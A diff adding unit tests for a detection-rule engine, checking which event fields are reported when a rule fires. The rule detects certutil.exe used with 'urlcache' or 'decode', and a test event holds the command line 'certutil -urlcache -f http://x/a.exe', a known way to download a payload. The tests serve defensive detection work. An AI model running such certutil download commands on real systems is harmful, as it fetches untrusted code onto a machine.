@@ -1,0 +1,58 @@
+"""Which fields made a rule fire (shown highlighted with its alert): the fields of the conditions
+that hold, never those of a negated condition, of a branch that did not hold, or absent ones."""
+
+from __future__ import annotations
+
+from canhgac.rules.engine import Engine
+
+from tests.unit.rules.support import event, load, rule
+
+DETECTION = """
+    sel_image:
+        Image|endswith: '\\\\certutil.exe'
+    sel_cli:
+        - CommandLine|contains: urlcache
+        - CommandLine|contains: decode
+    other:
+        ParentImage|endswith: '\\\\explorer.exe'
+    admin:
+        User: admin
+    condition: sel_image and (sel_cli or other) and not admin
+"""
+
+
+def engine_for(detection: str) -> Engine:
+    result = load(rule(detection))
+    assert not result.rejected, result.rejected
+    return Engine(result.rules)
+
+
+def test_fields_of_the_conditions_that_hold() -> None:
+    engine = engine_for(DETECTION)
+    ev = event(
+        {
+            "Image": "C:\\Windows\\System32\\certutil.exe",
+            "CommandLine": "certutil -urlcache -f http://x/a.exe",
+            "ParentImage": "C:\\Windows\\cmd.exe",  # the `other` branch does not hold
+            "User": "lan",  # under `not`: it holds by being different, it names nothing
+        }
+    )
+    assert engine.match(ev)
+    rule_id = engine.rules[0].meta.id
+    assert engine.firing_fields(rule_id, ev) == ["Image", "CommandLine"]
+    assert engine.firing_fields("no-such-rule", ev) == []
+
+
+def test_keyword_rules_name_the_field_searched_and_nested_paths() -> None:
+    engine = engine_for(
+        """
+        keywords:
+            - 'Failed password for'
+        sel:
+            source.ip|cidr: 203.0.113.0/24
+        condition: keywords and sel
+        """
+    )
+    ev = event({"message": "Failed password for root", "log": {"original": "x"}, "source": {"ip": "203.0.113.9"}})
+    assert engine.match(ev)
+    assert engine.firing_fields(engine.rules[0].meta.id, ev) == ["message", "source.ip"]
